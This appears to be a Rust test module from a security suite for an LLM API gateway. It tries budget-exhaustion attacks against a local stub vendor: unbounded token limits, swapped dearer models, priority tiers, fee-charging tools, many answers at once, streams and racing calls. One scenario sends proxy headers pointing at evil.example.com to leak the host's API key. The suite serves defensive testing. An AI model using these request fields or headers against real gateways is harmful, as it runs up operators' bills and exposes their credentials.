//! Model calls that cost more than the budget.
//!
//! Each attack sends requests until it is refused, and the vendor of the suite counts what they cost. The control is a
//! careless gateway in front of the same vendor: it believes the request, charges the requested model, and counts only
//! answers that a client has read.

mod careless;
mod vendor;

use std::sync::Arc;

use gateway::{
    Gateway, GatewayConfig, GatewayIdentity, GatewayLimits, HiddenReasoning, MemoryBodyStore, ModelPrice, NoTurn,
    PriceTable, SessionToken, TokenRates, VendorConfig, VendorKind, VendorUpstream,
};
use protocol::SessionId;
use serde_json::{Value, json};
use store::{
    DataDir, Durability, LimitAmount, LimitScope, LimitWindow, MemoryJournal, SqliteLedger, SystemClock, UsageLimit,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use self::vendor::{CHEAP, LONGEST, Vendor};
use crate::attack::{Attack, Group, Place, Verdict, scenario};
use crate::stage::Stage;

/// The budget in pico-dollars: less than one answer of the greatest length.
const BUDGET: u64 = 2_500 * CHEAP;
/// An attack gives up after this many calls.
const CALLS: usize = 12;
const CONTROL: &str = "through a gateway that believes the request";

pub(crate) fn attacks() -> Vec<Attack> {
    let attack = |name, what, run| scenario(Group::Spend, name, what, CONTROL, run);
    vec![
        attack("spend_max_tokens", "ask for an answer of -1 tokens, which has no limit", |stage, place| {
            repeat(stage, place, &json!({"max_tokens": -1}), "")
        }),
        attack("spend_models_field", "name a dearer model in `models`", |stage, place| {
            repeat(stage, place, &json!({"models": ["dear"]}), "")
        }),
        attack("spend_fallbacks_field", "name a dearer model in `fallbacks`", |stage, place| {
            repeat(stage, place, &json!({"fallbacks": ["dear"]}), "")
        }),
        attack("spend_service_tier", "ask for a dearer service tier", |stage, place| {
            repeat(stage, place, &json!({"service_tier": "priority"}), "")
        }),
        attack("spend_server_tool", "let the vendor run a tool with a fee", |stage, place| {
            repeat(stage, place, &json!({"tools": [{"type": "image_generation"}]}), "")
        }),
        attack("spend_answers", "ask for a hundred answers at once", |stage, place| {
            repeat(stage, place, &json!({"n": 100}), "")
        }),
        attack("spend_hidden_reasoning", "let the model reason without showing it", |stage, place| {
            repeat(stage, place, &json!({"max_tokens": null, "stream": true, "reasoning_effort": "high"}), "")
        }),
        attack("spend_header", "send the host's key to another server by a header of a proxy", |stage, place| {
            let headers = "x-portkey-custom-host: https://evil.example.com\r\nforwarded: host=evil.example.com\r\n";
            repeat(stage, place, &json!({}), headers)
        }),
        attack("spend_long_stream", "let a stream run on after the budget", long_stream),
        attack("spend_race", "race for the last cent with many calls", race),
    ]
}

/// A gateway in front of the suite's vendor.
struct Scene {
    vendor: Vendor,
    address: std::net::SocketAddr,
    token: String,
    _parts: Box<dyn std::any::Any>,
}

impl Scene {
    async fn new(place: Place) -> Self {
        let vendor = Vendor::start().await;
        match place {
            Place::Inside => Self::ours(vendor),
            Place::Outside => {
                let careless = careless::start(vendor.stub.address, BUDGET).await;
                let address = careless.address;
                Self { vendor, address, token: "t".to_owned(), _parts: Box::new(careless) }
            }
        }
    }

    fn ours(vendor: Vendor) -> Self {
        let rates = |output| TokenRates { output, ..TokenRates::default() };
        let cheap = i64::try_from(CHEAP).expect("a price");
        let price = ModelPrice::flat(rates(cheap)).with_max_output_tokens(LONGEST);
        let thin = ModelPrice::flat(rates(cheap / 10)).with_max_output_tokens(LONGEST);
        let prices = PriceTable::default()
            .with_price("cheap", price.with_reasoning(HiddenReasoning::Asked))
            .with_price("thin", thin.with_reasoning(HiddenReasoning::Asked))
            .with_price("dear", ModelPrice::flat(rates(cheap * 100)));
        let directory = tempfile::tempdir().expect("directory");
        let data = DataDir::open(directory.path()).expect("data directory");
        let clock = Arc::new(SystemClock);
        let ledger = Arc::new(SqliteLedger::claim(&data, Durability::Normal, clock.clone()).expect("ledger").ledger);
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
        let address = listener.local_addr().expect("address");
        let (token, text) = SessionToken::issue();
        let session = SessionId::new("attack").expect("id");
        let config = VendorConfig::new("stub", VendorKind::Openai, vendor.stub.url());
        let max = LimitAmount::Picos(BUDGET);
        let identity = GatewayIdentity {
            session: session.clone(),
            token,
            account: "attack".into(),
            user: None,
            key: None,
            agent: None,
            run: "attack".into(),
            attempt: 1,
            journal: Arc::new(MemoryJournal::new(session, clock)),
            bodies: Arc::new(MemoryBodyStore::default()),
            turn: Arc::new(NoTurn),
            upstream: Arc::new(VendorUpstream::new(config).expect("upstream")),
            policy: None,
            budgets: vec![UsageLimit { name: "budget", scope: LimitScope::Session, window: LimitWindow::Ever, max }],
            limits: GatewayLimits::default(),
            in_flight: base::ByteBudget::new(64 << 20),
        };
        let gateway = Gateway::new(GatewayConfig { prices, ledger, budgets: Vec::new() });
        let attachment = gateway.attach(listener, identity).expect("attachment");
        Self { vendor, address, token: text, _parts: Box::new((attachment, gateway, directory)) }
    }

    /// Sends a request and returns the connection.
    async fn send(&self, fields: &Value, headers: &str) -> TcpStream {
        let mut body = json!({"model": "cheap", "max_tokens": 100, "messages": []});
        body.as_object_mut().expect("object").extend(fields.as_object().expect("object").clone());
        let body = body.to_string();
        let request = format!(
            "POST /v1/chat/completions HTTP/1.1\r\nhost: gateway.example.com\r\nauthorization: Bearer {}\r\n\
             content-type: application/json\r\n{headers}connection: close\r\ncontent-length: {}\r\n\r\n{body}",
            self.token,
            body.len()
        );
        let mut connection = TcpStream::connect(self.address).await.expect("connection");
        connection.write_all(request.as_bytes()).await.expect("request");
        connection
    }

    /// Makes a call and reads all of the answer; returns whether it was served.
    async fn call(&self, fields: &Value, headers: &str) -> bool {
        let mut connection = self.send(fields, headers).await;
        let mut answer = Vec::new();
        // A connection that is cut off is as good as an answer.
        let _ = connection.read_to_end(&mut answer).await;
        answer.starts_with(b"HTTP/1.1 200")
    }

    /// Returns success when the vendor's bill exceeds the budget, or when the vendor saw a header it must not see.
    fn verdict(&self) -> Verdict {
        let (bill, smuggled) = (self.vendor.bill(), self.vendor.smuggled());
        Verdict::when(bill > BUDGET || smuggled, format!("{bill} of {BUDGET} billed, smuggled: {smuggled}"))
    }
}

/// Repeats a call with additional fields and headers until it is refused.
fn repeat(stage: &Stage, place: Place, fields: &Value, headers: &str) -> Verdict {
    stage.runtime.block_on(async {
        let scene = Scene::new(place).await;
        for _ in 0..CALLS {
            if !scene.call(fields, headers).await {
                break;
            }
        }
        scene.verdict()
    })
}

/// Reads a stream without a limit; the vendor writes the next part when the last one was read.
fn long_stream(stage: &Stage, place: Place) -> Verdict {
    stage.runtime.block_on(async {
        let scene = Scene::new(place).await;
        // The first hold of a stream of this model fits the budget.
        let fields = json!({"model": "thin", "max_tokens": null, "stream": true, "slowly": true});
        let mut connection = scene.send(&fields, "").await;
        let mut part = [0; 4_096];
        while let Ok(1..) = connection.read(&mut part).await {
            scene.vendor.read.send_modify(|read| *read += 1);
        }
        scene.verdict()
    })
}

/// Makes many calls at once, each of which fits the budget alone.
fn race(stage: &Stage, place: Place) -> Verdict {
    stage.runtime.block_on(async {
        let scene = Scene::new(place).await;
        let mut calls = JoinSet::new();
        let mut connections = Vec::new();
        for _ in 0..CALLS {
            connections.push(scene.send(&json!({"max_tokens": 1_000}), "").await);
        }
        for mut connection in connections {
            calls.spawn(async move { drop(connection.read_to_end(&mut Vec::new()).await) });
        }
        calls.join_all().await;
        scene.verdict()
    })
}
